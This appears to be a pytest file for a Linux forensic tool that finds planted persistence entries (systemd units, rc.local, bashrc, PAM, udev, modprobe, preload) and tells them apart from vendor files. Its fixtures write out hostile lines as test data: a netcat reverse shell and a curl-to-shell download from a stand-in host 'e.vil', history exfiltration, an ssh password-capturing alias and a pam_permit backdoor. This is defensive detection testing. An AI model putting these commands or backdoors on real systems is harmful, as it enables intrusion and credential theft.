"""persistence: every autostart place, vendor files told from planted ones."""

from __future__ import annotations

import json
import os

from .dpkgfake import write_dpkg

PASSWD = "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/bash\n"
SKEL_BASHRC = ("# ~/.bashrc\nalias ls='ls --color=auto'\n"
               "[ -x /usr/bin/lesspipe ] && eval \"$(SHELL=/bin/sh lesspipe)\"\n")


def _flagged(db):
    return {(r["kind"], r["source"], r["line"]): json.loads(r["flags"])
            for r in db["persistence"].rows if r["flags"] != "[]"}


def test_units_dropins_enablement_and_ownership(tree, run_collect):
    root = tree({
        "/etc/passwd": PASSWD,
        "/lib/systemd/system/ssh.service": "[Service]\nExecStartPre=/usr/sbin/sshd -t\nExecStart=/usr/sbin/sshd -D\n",
        "/lib/systemd/system/fake-vendor.service": "[Service]\nExecStart=/usr/bin/python3 -m http.server\n",
        "/etc/systemd/system/admin-app.service": "[Service]\nExecStart=/opt/app/bin/app --serve\n",
        "/etc/systemd/system/ssh.service.d/override.conf": "[Service]\nExecStartPost=-/dev/shm/.s\n",
        "/etc/systemd/system/enc.service": b"[Unit]\nDescription=caf\xe9 \xff\n[Service]\nExecStart=/bin/true\n"
                                           b"garbage line without equals\n",
        "/home/bob/.config/systemd/user/agent.service": "[Service]\nExecStart=/bin/sh -c 'nc -e /bin/sh e.vil 1'\n",
    })
    write_dpkg(root, {"openssh-server": ["/lib/systemd/system/ssh.service"]})
    os.makedirs(root / "etc/systemd/system/multi-user.target.wants")
    os.symlink("/lib/systemd/system/ssh.service", root / "etc/systemd/system/multi-user.target.wants/ssh.service")
    os.makedirs(root / "home/bob/.config/systemd/user/default.target.wants")
    os.symlink("../agent.service", root / "home/bob/.config/systemd/user/default.target.wants/agent.service")
    os.symlink("/dev/null", root / "etc/systemd/system/masked.service")
    db = run_collect(root, only=["persistence"])
    units = {r["name"]: r for r in db["persistence"].rows if r["kind"].startswith("systemd")}
    assert set(units) == {"ssh.service", "fake-vendor.service", "admin-app.service", "enc.service", "agent.service"}
    ssh = units["ssh.service"]
    assert (ssh["package"], ssh["enabled"]) == ("openssh-server", 1)
    assert json.loads(ssh["detail"])["ExecStartPost"] == "-/dev/shm/.s"
    assert json.loads(ssh["flags"]) == ["runs a program from a world-writable directory", "hidden path component"]
    assert ssh["undo"] == ("delete the drop-in(s) /etc/systemd/system/ssh.service.d/override.conf; "
                           "systemctl daemon-reload")
    assert json.loads(units["fake-vendor.service"]["flags"]) == [
        "no package owns this file, in a folder only packages fill"]
    assert json.loads(units["admin-app.service"]["flags"]) == []
    assert units["admin-app.service"]["enabled"] == 0
    agent = units["agent.service"]
    assert (agent["kind"], agent["enabled"]) == ("systemd_user_unit", 1)
    assert json.loads(agent["flags"]) == ["netcat or socat with a program attached"]
    assert agent["undo"].startswith("systemctl --user disable --now agent.service")
    errors = {(e["path"], e["line"]): e["what"] for e in db["errors"].rows}
    assert errors[("/etc/systemd/system/enc.service", 2)] == "line is not UTF-8 (systemd ignores such lines)"
    assert errors[("/etc/systemd/system/enc.service", 5)].startswith("not a unit file line")


def test_boot_scripts_preload_startup_pam_udev_motd_modules(tree, run_collect):
    root = tree({
        "/etc/passwd": PASSWD,
        "/etc/init.d/ssh": "#!/bin/sh\nrm -f /tmp/.ssh-lock\n",
        "/etc/init.d/x11-helper": "#!/bin/sh\n/var/tmp/.X/x &\n",
        "/etc/rc.local": "#!/bin/sh -e\n# comment\n/opt/fw/start.sh\ncurl -s http://e.vil/r | sh\nexit 0\n",
        "/etc/ld.so.preload": "/lib/libhide.so\n",
        "/etc/environment": 'PATH="/usr/local/bin:/usr/bin"\nLD_PRELOAD=/lib/libhide.so\n',
        "/etc/skel/.bashrc": SKEL_BASHRC,
        "/root/.bashrc": SKEL_BASHRC,
        "/home/bob/.bashrc": SKEL_BASHRC + "export PROMPT_COMMAND='history -a >(nc e.vil 9 &)'\n"
                                           "alias ssh='strace -o /tmp/.s -e read ssh'\n",
        "/etc/profile.d/vendor.sh": "[ -x /usr/bin/tool ] && eval \"$(/usr/bin/tool init)\"\n",
        "/etc/pam.d/common-auth": "auth [success=1 default=ignore] pam_unix.so nullok\n"
                                  "auth sufficient pam_permit.so\n",
        "/lib/x86_64-linux-gnu/security/pam_unix.so": b"\x7fELF unix",
        "/lib/x86_64-linux-gnu/security/pam_evil.so": b"\x7fELF evil",
        "/etc/udev/rules.d/99-x.rules": 'ACTION=="add", RUN+="/bin/sh -c \'/dev/shm/u\'"\n',
        "/lib/udev/rules.d/50-vendor.rules": 'RUN+="/lib/udev/vendor-helper"\n',
        "/etc/update-motd.d/00-header": "#!/bin/sh\nprintf 'Welcome'\n",
        "/etc/update-motd.d/50-x": "#!/bin/sh\necho hi\n",
        "/etc/modules-load.d/x.conf": "# boot modules\nloop\nhider\n",
        "/lib/modules/6.1.0-9-amd64/modules.dep": "kernel/drivers/block/loop.ko.xz:\n",
        "/etc/modprobe.d/x.conf": "install usb-storage /bin/true\ninstall dccp /bin/sh -c '/tmp/.k; modprobe dccp'\n",
    })
    write_dpkg(root, {"libpam-modules": ["/lib/x86_64-linux-gnu/security/pam_unix.so"],
                      "udev": ["/lib/udev/rules.d/50-vendor.rules"], "base-files": ["/etc/update-motd.d/00-header"]},
               conffiles={"openssh-server": ["/etc/init.d/ssh"], "tool": ["/etc/profile.d/vendor.sh"]})
    os.makedirs(root / "etc/rc2.d")
    os.symlink("../init.d/x11-helper", root / "etc/rc2.d/S02x11-helper")
    db = run_collect(root, only=["persistence"])
    assert _flagged(db) == {
        ("sysv_init", "/etc/init.d/x11-helper", None): ["init script no package owns",
                                                         "runs a program from a world-writable directory",
                                                         "hidden path component"],
        ("rc_local", "/etc/rc.local", 4): ["download piped into a shell or interpreter"],
        ("ld_so_preload", "/etc/ld.so.preload", 1): [
            "library preloaded into every process (userland rootkits hide this way)"],
        ("shell_startup", "/etc/environment", 2): ["preloads a library into processes"],
        ("shell_startup", "/home/bob/.bashrc", 4): ["runs code before every prompt or command"],
        ("shell_startup", "/home/bob/.bashrc", 5): ["hidden path component",
                                                    "alias replaces ssh (password capture or hiding)"],
        ("pam", "/etc/pam.d/common-auth", 2): ["pam_permit as sufficient: any password is accepted"],
        ("pam_module", "/lib/x86_64-linux-gnu/security/pam_evil.so", None): [
            "no package owns this file, in a folder only packages fill"],
        ("udev", "/etc/udev/rules.d/99-x.rules", 1): ["runs a program from a world-writable directory"],
        ("update_motd", "/etc/update-motd.d/50-x", None): [
            "no package owns this script; it runs as root at every SSH login"],
        ("kernel_module", "/etc/modules-load.d/x.conf", 3): [
            "loaded at boot but no installed kernel ships this module (out-of-tree: rootkit?)"],
        ("modprobe_install", "/etc/modprobe.d/x.conf", 2): [
            "modprobe install hook runs a command when the module loads",
            "runs a program from a world-writable directory", "hidden path component"],
    }
    rows = {(r["kind"], r["source"], r["line"]): r for r in db["persistence"].rows}
    assert rows[("sysv_init", "/etc/init.d/x11-helper", None)]["enabled"] == 1
    assert rows[("sysv_init", "/etc/init.d/ssh", None)]["package"] == "openssh-server"
    assert rows[("rc_local", "/etc/rc.local", 3)]["undo"] == "remove line 3 from /etc/rc.local"
    assert not any(src == "/root/.bashrc" for _k, src, _l in rows)  # the stock /etc/skel copy
    assert not any(src == "/etc/profile.d/vendor.sh" for _k, src, _l in rows)
    assert rows[("pam_module", "/lib/x86_64-linux-gnu/security/pam_unix.so", None)]["enabled"] == 1
    assert ("udev", "/lib/udev/rules.d/50-vendor.rules", 1) not in rows
